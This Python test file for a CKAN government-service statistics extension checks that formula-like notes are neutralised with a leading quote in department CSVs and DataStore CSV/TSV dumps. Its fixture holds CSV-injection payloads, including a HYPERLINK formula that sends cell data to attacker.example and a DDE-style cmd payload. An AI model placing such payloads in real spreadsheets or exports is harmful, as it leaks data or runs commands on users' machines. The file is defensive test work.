"""The per-department statistics CSV a department's free text lands in: a note a
spreadsheet would run as a formula is written with a leading quote, as the
catalogue files do (core.tabular.neutralise); figures stay figures."""
from __future__ import annotations

import csv
import io

from ckan.lib import uploader
from ckan.tests import helpers

from ckanext.govservice import statistics_publish

from .test_statistics import COLUMNS, load_csv, services  # noqa: F401  (fixture)

NOTES = {
    "SR-1,2026-01": '=HYPERLINK("http://attacker.example/?d="&A1,"详情")',
    "SR-1,2026-02": "+1+cmd|' /C calc'!A0",
    "SR-1,2026-03": "@SUM(1,2)",
    "SR-1,2026-04": "-2+3",
    "SR-1,2026-05": "\t=1+1",
    "SR-1,2026-06": "窗口调整，数据按新口径统计",
}


def _load_notes(services) -> None:
    """A row of SR-1 per note, each month its own, with figures that are numbers."""
    body = io.StringIO()
    writer = csv.writer(body)
    writer.writerow(COLUMNS.split(",") + ["note"])
    for key, note in NOTES.items():
        code, period = key.split(",")
        writer.writerow([code, period, "online", "-0", "1", "1", "1"] + [""] * 9 + [note])
    load_csv(services["context"], "market-regulation", body.getvalue())


def test_formula_like_notes_are_neutralised_in_the_departments_csv(services):
    _load_notes(services)

    statistics_publish.publish_department_file("market-regulation")

    resource = helpers.call_action("package_show", id="market-regulation-service-statistics")["resources"][0]
    with open(uploader.get_resource_uploader(resource).get_path(resource["id"]), encoding="utf-8-sig") as f:
        rows = {f"{r['service_code']},{r['period']}": r for r in csv.DictReader(f)}
    assert {key: row["note"] for key, row in rows.items()} == {
        "SR-1,2026-01": "'" + NOTES["SR-1,2026-01"],
        "SR-1,2026-02": "'" + NOTES["SR-1,2026-02"],
        "SR-1,2026-03": "'@SUM(1,2)",
        "SR-1,2026-04": "'-2+3",
        "SR-1,2026-05": "'\t=1+1",
        "SR-1,2026-06": "窗口调整，数据按新口径统计",
    }
    assert {row["received"] for row in rows.values()} == {"0"}        # a number, not text: untouched


def test_formula_like_notes_are_neutralised_in_the_tables_datastore_dump(services, app):
    """The DataStore's own dump of the statistics table (/datastore/dump/<id>),
    as CSV and TSV: notes neutralised, figures left as figures."""
    _load_notes(services)
    table = statistics_publish.statistics_table()

    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        dump = app.get(f"/datastore/dump/{table}", query_string={"format": fmt})
        assert dump.status_code == 200
        rows = {f"{r['service_code']},{r['period']}": r
                for r in csv.DictReader(io.StringIO(dump.get_data(as_text=True).lstrip("\ufeff")),
                                        delimiter=delimiter)}
        assert rows["SR-1,2026-01"]["note"] == "'" + NOTES["SR-1,2026-01"], fmt
        assert rows["SR-1,2026-04"]["note"] == "'-2+3", fmt
        assert rows["SR-1,2026-06"]["note"] == "窗口调整，数据按新口径统计", fmt
        assert {r["received"] for r in rows.values()} == {"0"}, fmt
